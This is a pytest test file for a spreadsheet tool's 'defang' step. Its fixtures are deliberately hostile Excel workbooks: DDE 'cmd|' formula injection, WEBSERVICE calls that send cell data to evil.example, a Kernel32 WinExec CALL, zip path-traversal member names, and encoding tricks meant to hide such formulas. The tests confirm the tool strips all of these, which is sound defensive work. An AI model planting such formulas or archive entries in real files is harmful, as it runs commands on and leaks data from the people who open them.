"""Feedback copies carry nothing that reaches outside the workbook or runs (`write.defang`):
formulas that fetch, call or link out lose their formula and keep their value, ordinary
formulas stay, links to files and web pages, other workbooks, data connections and custom
XML go, and zip members with unsafe names are not copied. Both ways a copy is made: the
package edited directly, and openpyxl."""

from __future__ import annotations

import io
import re
import shutil
import struct
import subprocess
import zipfile
import zlib
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from support.reports import DATA_SHEET, report_for
from test_feedback_package import problem

from ntm_excel.check.consolidate import consolidate_from_config
from ntm_excel.config import load_config
from ntm_excel.write import feedback
from ntm_excel.write.defang import reaches_out, safe_members
from ntm_excel.write.feedback import SHEET, write_feedback

ROOT = Path(__file__).resolve().parent.parent
EVIL = "evil.example"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
# cell → (formula as stored, value last calculated)
DANGEROUS = {
    "B1": ("cmd|' /C calc'!A0", 7),
    "B2": ('_xlfn.WEBSERVICE("http://evil.example/?"&A1)', "đã gửi"),
    "B3": ('HYPERLINK("http://evil.example/x","bấm vào")', "bấm vào"),
    "B4": ("[1]Sheet1!A1", 5),
    "B5": ("SUM('\\\\evil.example\\share\\[hoso.xlsx]Sheet1'!A1:A3)", 6),
    "B6": ('IF(A1>0,_xlfn.FILTERXML("<a>1</a>","//a"),0)', 1),
    "B7": ('CALL("Kernel32","WinExec","JCJ","calc",0)', 0),
}
SHARED = ('_xlfn.WEBSERVICE("http://evil.example/"&A1)', "A", "B")  # C1:C3, its values


def _hostile(path: Path) -> Path:
    """A commune's workbook (the `problem` cell E12 among its data) with dangerous and
    ordinary formulas, their values calculated, hyperlinks, a defined name, a validation
    and a conditional format that reach out."""
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet(DATA_SHEET)
    sheet.write("A12", "4.2")
    sheet.write("D12", 90)
    sheet.write("E12", "Đạt")
    for row in range(1, 4):
        sheet.write(f"A{row}", row)
    for cell, (formula, value) in DANGEROUS.items():
        sheet.write_formula(cell, formula, None, value)
    sheet.write_formula("D1", "=SUM(A1:A3)", None, 6)
    sheet.write_formula("D2", '=IF(D12>50,"Đạt","Chưa đạt")', None, "Đạt")
    sheet.write_array_formula("F1:F2", '{=_xlfn.WEBSERVICE("http://evil.example/"&A1:A2)}',
                              None, "mảng")  # fmt: skip
    sheet.write_url("G1", "http://evil.example/payload.exe", string="Tải hồ sơ")
    sheet.write_url("G2", "file:///C:/Windows/System32/calc.exe", string="Mở tệp")
    sheet.write_url("G3", f"internal:'{DATA_SHEET}'!A1", string="Về đầu trang")
    book.define_name("Nguon", "=cmd|' /C calc'!A0")
    book.define_name("Tong", f"='{DATA_SHEET}'!$A$1:$A$3")
    sheet.data_validation(
        "H1", {"validate": "custom", "value": '=WEBSERVICE("http://evil.example")'}
    )
    fetched = '=ISNUMBER(_xlfn.FILTERXML(A1,"//a"))'
    sheet.conditional_format("H2", {"type": "formula", "criteria": fetched,
                                    "format": book.add_format({"bold": True})})  # fmt: skip
    book.close()
    return _with_links(path)


def _with_links(path: Path) -> Path:
    """Add by hand what no writer library makes: shared formulas, a link to another
    workbook (the [1] of B4), a data connection, Power Query's custom XML, and zip members
    with traversal and absolute names."""
    members = {}
    with zipfile.ZipFile(path) as old:
        for name in old.namelist():
            members[name] = old.read(name)
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    formula, *values = SHARED
    cells = [
        f'<c r="C1" t="str"><f t="shared" ref="C1:C3" si="0">{formula.replace("&", "&amp;")}'
        f"</f><v>{values[0]}</v></c>",
        f'<c r="C2" t="str"><f t="shared" si="0"/><v>{values[1]}</v></c>',
        '<c r="C3"><f t="shared" si="0"/></c>',
    ]
    cells += [f'<c r="E{row}"><f t="shared" ref="E1:E2" si="1">A1*2</f><v>2</v></c>'
              if row == 1 else f'<c r="E{row}"><f t="shared" si="1"/><v>4</v></c>'
              for row in (1, 2)]  # fmt: skip
    for cell in cells:  # C1:C3 before D1:D3, E1:E2 before F1:F2
        before = "D" if 'r="C' in cell else "F"
        row = re.search(r'r="[CE](\d)"', cell)[1]
        sheet = sheet.replace(f'<c r="{before}{row}"', cell + f'<c r="{before}{row}"', 1)
    members["xl/worksheets/sheet1.xml"] = sheet.encode()
    members["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{R}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0">'
        '<row r="1"><cell r="A1"><v>5</v></cell></row></sheetData></sheetDataSet>'
        "</externalBook></externalLink>"
    ).encode()
    members["xl/externalLinks/_rels/externalLink1.xml.rels"] = _rels(
        ("rId1", "externalLinkPath", "file://///evil.example/share/hoso.xlsx", True)
    )
    members["xl/connections.xml"] = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="Tải dữ liệu" type="4" '
        'refreshOnLoad="1"><webPr url="http://evil.example/data"/></connection></connections>'
    ).encode()
    members["customXml/item1.xml"] = (
        b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    )
    members["customXml/itemProps1.xml"] = (
        b'<ds:datastoreItem ds:itemID="{1}" xmlns:ds="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/customXml"/>'
    )
    members["customXml/_rels/item1.xml.rels"] = _rels(("rId1", "customXmlProps", "itemProps1.xml"))
    rels = members["xl/_rels/workbook.xml.rels"].decode()
    added = _rels(
        ("rId90", "externalLink", "externalLinks/externalLink1.xml"),
        ("rId91", "connections", "connections.xml"),
        ("rId92", "customXml", "../customXml/item1.xml"),
    ).decode()
    inner = re.search(r"<Relationship .*/>", added)[0]
    members["xl/_rels/workbook.xml.rels"] = rels.replace(
        "</Relationships>", inner + "</Relationships>"
    ).encode()
    workbook = members["xl/workbook.xml"].decode()
    workbook = workbook.replace(
        "</sheets>", '</sheets><externalReferences><externalReference r:id="rId90"/>'
        "</externalReferences>", 1
    )  # fmt: skip
    members["xl/workbook.xml"] = workbook.encode()
    types = members["[Content_Types].xml"].decode()
    overrides = "".join(
        f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-'
        f'officedocument.spreadsheetml.{kind}+xml"/>'
        for part, kind in (("xl/externalLinks/externalLink1.xml", "externalLink"),
                           ("xl/connections.xml", "connections"))
    )  # fmt: skip
    members["[Content_Types].xml"] = types.replace("</Types>", overrides + "</Types>").encode()
    members["../../../../tmp/ntm_defang_x.txt"] = b"traversal"
    members["/abs/evil.xml"] = b"<a/>"
    members["C:/evil.xml"] = b"<a/>"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in members.items():
            new.writestr(zipfile.ZipInfo(name), data)  # ZipInfo: the name as written
    return path


def _rels(*rels: tuple) -> bytes:
    """A relationships part: (id, type, target[, external])."""
    items = "".join(
        f'<Relationship Id="{rel[0]}" Type="{rel[1] if "/" in rel[1] else f"{R}/{rel[1]}"}" '
        f'Target="{rel[2]}"' + (' TargetMode="External"/>' if rel[3:] else "/>")
        for rel in rels
    )
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{items}</Relationships>"
    ).encode()


def _copy(source: Path, tmp_path: Path, way: str) -> Path:
    """The feedback copy of `source`, made `way`: "direct" (the package edited, as
    `write_feedback` does) or "openpyxl" (its fallback)."""
    report = report_for(source)
    issues = [problem(source.name)]
    if way == "direct":
        data, sniffed, _ = feedback._checked(source, report.submission.sha256)
        feedback.edited_package(report, issues, data, sniffed)  # no `Unsupported`: edited directly
        return write_feedback(report, issues, tmp_path / "gop_y")
    out = tmp_path / "openpyxl.xlsx"
    out.write_bytes(
        feedback._saved(feedback.openpyxl_workbook(report, issues, source.read_bytes()))
    )
    return out


@pytest.mark.parametrize("way", ["direct", "openpyxl"])
def test_formulas_that_reach_out_keep_only_their_values(tmp_path, way):
    out = _copy(_hostile(tmp_path / "cam_thanh.xlsx"), tmp_path, way)
    formulas = openpyxl.load_workbook(out)[DATA_SHEET]
    values = openpyxl.load_workbook(out, data_only=True)[DATA_SHEET]
    for cell, (_, value) in DANGEROUS.items():
        assert formulas[cell].data_type != "f" and formulas[cell].value == value, cell
    assert formulas["D1"].value == "=SUM(A1:A3)" and formulas["D2"].value.startswith("=IF(D12")
    if way == "direct":  # openpyxl writes no value calculated
        assert values["D1"].value == 6 and values["D2"].value == "Đạt"
    assert formulas["F1"].data_type != "f" and formulas["F1"].value == "mảng"
    assert [formulas[f"C{row}"].value for row in (1, 2, 3)] == ["A", "B", None]
    assert formulas["E1"].value == "=A1*2" and formulas["E2"].value == "=A2*2"  # stays
    book = openpyxl.load_workbook(out)
    assert book.defined_names["Nguon"].attr_text == "#REF!"
    assert book.defined_names["Tong"].attr_text == f"'{DATA_SHEET}'!$A$1:$A$3"
    assert [v.formula1 for v in formulas.data_validations.dataValidation] == ["#REF!"]
    assert [r.formula for f in formulas.conditional_formatting for r in f.rules] == [["#REF!"]]
    assert book[DATA_SHEET]["E12"].comment is not None  # the problem cell still marked
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            for found in re.findall(r"<(?:\w+:)?f\b[^>]*>([^<]*)<", text):
                assert not reaches_out(found), (name, found)


@pytest.mark.parametrize("way", ["direct", "openpyxl"])
def test_links_out_connections_and_custom_xml_go(tmp_path, way):
    out = _copy(_hostile(tmp_path / "cam_thanh.xlsx"), tmp_path, way)
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        everything = b"".join(archive.read(name) for name in names)
    assert not [n for n in names if "externalLink" in n or "connections" in n or "customXml" in n]
    assert b'TargetMode="External"' not in everything and EVIL.encode() not in everything
    assert b"calc.exe" not in everything and b"externalReference" not in everything
    assert b"/connections" not in everything and b"/customXml" not in everything
    sheet = openpyxl.load_workbook(out)[DATA_SHEET]
    assert sheet["G1"].value == "Tải hồ sơ" and sheet["G1"].hyperlink is None
    assert sheet["G2"].value == "Mở tệp" and sheet["G2"].hyperlink is None
    assert sheet["G3"].hyperlink.location == f"'{DATA_SHEET}'!A1"  # within the workbook
    assert openpyxl.load_workbook(out)._external_links == []


def test_members_with_unsafe_names_are_not_copied(tmp_path):
    out = _copy(_hostile(tmp_path / "cam_thanh.xlsx"), tmp_path, "direct")
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
    assert names and all(n.startswith(("xl/", "docProps/", "_rels/", "[Content")) for n in names)
    assert not [n for n in names if ".." in n or n.startswith("/") or ":" in n]


def test_safe_members():
    names = ["xl/a.xml", "XL/A.xml", "../x", "a/../../x", "/abs", "\\abs", "C:/x", "a\x01b",
             "a//b", "./a", "xl\\..\\x", "xl/b.xml"]  # fmt: skip
    kept = safe_members([zipfile.ZipInfo(name) for name in names])
    assert [m.filename for m in kept] == ["xl/a.xml", "xl/b.xml"]


@pytest.mark.parametrize(
    ("formula", "out"),
    [
        ("SUM(A1:A3)", False),
        ("'Tự đánh giá'!A1+Sheet2!B2", False),
        ('IF(A1="a|b","x[1]y!","\\\\z")', False),  # in text, nothing reaches out
        ("Bang1[Cot]+SUM(Bang1[[#This Row],[Cot]])", False),
        ("VLOOKUP(A1,Tong,2,FALSE)", False),
        ("cmd|' /C calc'!A0", True),
        ("=-2+3+cmd|' /C calc'!A0", True),
        ("[1]!TenKhac", True),
        ("'[Book.xlsx]Sheet1'!A1", True),
        ("'C:\\hoso\\[a.xlsx]S'!A1", True),
        ('hyperlink ("x")', True),
        ("_xlfn._xlws.WEBSERVICE(A1)", True),
        ("_xll.MyAddin(1)", True),
        ("_xlfn.MAP(A1,_xleta.WEBSERVICE)", True),  # a function passed by name
        ('_xlfn.LET(_xlpm.w,_xleta.WEBSERVICE,_xlpm.w("http://x"))', True),
        ("_xlfn.MAP(A1:A3,_xleta.SUM)", False),
        ("GET.WORKBOOK(1)", True),
        ('SUM("unclosed', True),
    ],
)
def test_reaches_out(formula, out):
    assert reaches_out(formula) is out


def test_consolidation_sends_no_live_formula_or_link_back(tmp_path):
    """As a user runs it: a bundled sample filled with formulas and links a stranger
    typed, consolidated; its feedback copy holds none of them, and the sample's own
    formulas are kept."""
    folder = tmp_path / "nop"
    folder.mkdir()
    source = ROOT / "workbooks" / "mau_nop" / "Bieu tu danh gia NTM - Cam My.xlsx"
    book = openpyxl.load_workbook(source)
    sheet = book.worksheets[0]
    row = sheet.max_row + 2
    for column, formula in enumerate(
        ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example/?"&A1)',
         '=HYPERLINK("http://evil.example/x","bấm")', "=SUM(1,2)"], start=1,
    ):  # fmt: skip
        sheet.cell(row, column).value = formula
    sheet.cell(row + 1, 1).value = "Hồ sơ"
    sheet.cell(row + 1, 1).hyperlink = "file://///evil.example/share/hoso.xlsx"
    book.save(folder / source.name)
    consolidation = consolidate_from_config([folder], load_config(), date(2021, 3, 25))
    (out,) = feedback.write_all_feedback(consolidation, tmp_path / "gop_y")
    copied = openpyxl.load_workbook(out).worksheets[1]  # after «Góp ý»
    assert [copied.cell(row, c).value for c in range(1, 5)] == [None, None, None, "=SUM(1,2)"]
    assert copied.cell(row + 1, 1).value == "Hồ sơ" and copied.cell(row + 1, 1).hyperlink is None
    with zipfile.ZipFile(out) as archive:
        assert not any(EVIL.encode() in archive.read(n) for n in archive.namelist())


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_opens_the_cleaned_copy(tmp_path):
    out = _copy(_hostile(tmp_path / "cam_thanh.xlsx"), tmp_path, "direct")
    profile = (tmp_path / "profile").as_uri()
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation={profile}", "--convert-to", "ods",
         "--outdir", str(tmp_path / "lo"), str(out)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    (converted,) = (tmp_path / "lo").iterdir()
    with zipfile.ZipFile(converted) as archive:
        content = archive.read("content.xml").decode()
    assert "Tải hồ sơ" in content and SHEET in content and EVIL not in content


def _rewritten(path: Path, part: str, change) -> Path:
    """`path` with the zip member `part` changed by `change(text)`."""
    with zipfile.ZipFile(path) as old:
        members = {name: old.read(name) for name in old.namelist()}
    members[part] = change(members[part].decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in members.items():
            new.writestr(name, data)
    return path


@pytest.mark.parametrize(
    "hidden",
    [
        '<f>_xlfn.WEB<!-- x -->SERVICE("http://evil.example")</f>',
        '<f><![CDATA[_xlfn.WEBSERVICE("http://evil.example")]]></f>',
        '<f t="normal" >_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)</f >',
        "<f>&#x5F;xlfn.&#87;EBSERVICE(A1)</f>",
        '<x:f xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        "cmd|' /C calc'!A0</x:f>",
    ],
)
def test_formulas_written_unusually_are_found(tmp_path, hidden):
    source = _rewritten(
        _hostile(tmp_path / "cam_thanh.xlsx"),
        "xl/worksheets/sheet1.xml",
        lambda text: re.sub(r"(<c r=\"B2\" t=\"str\">)<f>.*?</f>", lambda m: m[1] + hidden, text),
    )
    out = _copy(source, tmp_path, "direct")
    cell = openpyxl.load_workbook(out)[DATA_SHEET]["B2"]
    assert cell.data_type != "f" and cell.value == "đã gửi"


def _png() -> bytes:
    """A one-pixel PNG image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def test_a_linked_picture_keeps_no_link(tmp_path):
    """A picture whose image is fetched from the web when the file opens (`r:link`)."""
    path = tmp_path / "anh.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet(DATA_SHEET)
    sheet.write("E12", "Đạt")
    sheet.insert_image("B2", "anh.png", {"image_data": io.BytesIO(_png())})
    book.close()
    _rewritten(path, "xl/drawings/drawing1.xml", lambda t: t.replace("r:embed=", "r:link="))
    _rewritten(
        path,
        "xl/drawings/_rels/drawing1.xml.rels",
        lambda t: re.sub(r'Target="[^"]*"', 'Target="http://evil.example/a.png" '
                         'TargetMode="External"', t),
    )  # fmt: skip
    out = _copy(path, tmp_path, "direct")
    with zipfile.ZipFile(out) as archive:
        assert not any(EVIL.encode() in archive.read(n) for n in archive.namelist())
        drawing = archive.read("xl/drawings/drawing1.xml")
    assert b"r:link" not in drawing and b"<xdr:pic>" in drawing
    assert openpyxl.load_workbook(out)[DATA_SHEET]["E12"].comment is not None


def test_controls_and_embedded_objects_go_with_their_parts(tmp_path):
    """An ActiveX control (its binary named by its own relationships, listed first in the
    zip) and an embedded object on the marked sheet: the parts, relationships and elements
    go, the sheet is still marked."""
    path = workbook_with_cell(tmp_path / "dieu_khien.xlsx")
    with zipfile.ZipFile(path) as old:
        members = {name: old.read(name) for name in old.namelist()}
    control = "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary"
    added = {
        "xl/activeX/_rels/activeX1.xml.rels": _rels(("rId1", control, "activeX1.bin")),
        "xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/'
        b'2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
        "xl/activeX/activeX1.bin": b"MZ\x90\x00 not a control",
        "xl/embeddings/oleObject1.bin": b"MZ\x90\x00 a program",
    }
    sheet_rels = "xl/worksheets/_rels/sheet1.xml.rels"
    rels = _rels(("rId7", "control", "../activeX/activeX1.xml"),
                 ("rId8", "oleObject", "../embeddings/oleObject1.bin"))  # fmt: skip
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    sheet = sheet.replace(
        "</worksheet>",
        f'<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId8" xmlns:r="{R}"/>'
        f'</oleObjects><controls><control shapeId="1026" r:id="rId7" name="Nut" xmlns:r="{R}"/>'
        "</controls></worksheet>",
    )
    members["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in {**added, **members, sheet_rels: rels}.items():
            new.writestr(name, data)
    out = _copy(path, tmp_path, "direct")
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        sheet = archive.read("xl/worksheets/sheet1.xml")
        rels = archive.read(sheet_rels)
    assert not [n for n in names if "activeX" in n or "embeddings" in n]
    assert b"oleObject" not in sheet and b"<controls" not in sheet
    assert b"control" not in rels and b"oleObject" not in rels and b"comments" in rels
    assert openpyxl.load_workbook(out)[DATA_SHEET]["E12"].comment is not None


def workbook_with_cell(path: Path) -> Path:
    book = openpyxl.Workbook()
    book.active.title = DATA_SHEET
    book.active["E12"] = "Đạt"
    book.save(path)
    return path


def test_add_ins_shape_macros_and_republishing_go(tmp_path):
    """An Office add-in pane (webextension) that opens with the file, a shape whose click
    runs a macro of a workbook on a share, and a sheet republished to a share on every save
    were copied as they were."""
    path = workbook_with_cell(tmp_path / "them.xlsx")
    with zipfile.ZipFile(path) as old:
        members = {name: old.read(name) for name in old.namelist()}
    panes = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
    root = members["_rels/.rels"].decode()
    members["_rels/.rels"] = root.replace(
        "</Relationships>",
        f'<Relationship Id="rId9" Type="{panes}" Target="xl/webextensions/taskpanes.xml"/>'
        "</Relationships>",
    ).encode()
    members["xl/webextensions/taskpanes.xml"] = b"<wetp:taskpanes xmlns:wetp='x'/>"
    members["xl/drawings/drawing1.xml"] = (
        b'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/'
        b'spreadsheetDrawing"><xdr:sp macro="\'\\\\evil.example\\share\\tool.xlsm\'!Run"/>'
        b"</xdr:wsDr>"
    )
    members["xl/worksheets/_rels/sheet1.xml.rels"] = _rels(
        ("rId1", "drawing", "../drawings/drawing1.xml")
    )
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    members["xl/worksheets/sheet1.xml"] = sheet.replace(
        "</worksheet>",
        f'<drawing r:id="rId1" xmlns:r="{R}"/>'
        '<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" '
        'destinationFile="\\\\evil.example\\share\\x.htm" autoRepublish="1"/>'
        "</webPublishItems></worksheet>",
    ).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in members.items():
            new.writestr(name, data)
    out = _copy(path, tmp_path, "direct")
    with zipfile.ZipFile(out) as archive:
        texts = {name: archive.read(name) for name in archive.namelist()}
    assert not [name for name in texts if "webextensions" in name]
    assert b"webextension" not in texts["_rels/.rels"]
    assert b'macro=""' in texts["xl/drawings/drawing1.xml"]
    assert b"evil.example" not in b"".join(texts.values())
    assert openpyxl.load_workbook(out)[DATA_SHEET]["E12"].comment is not None
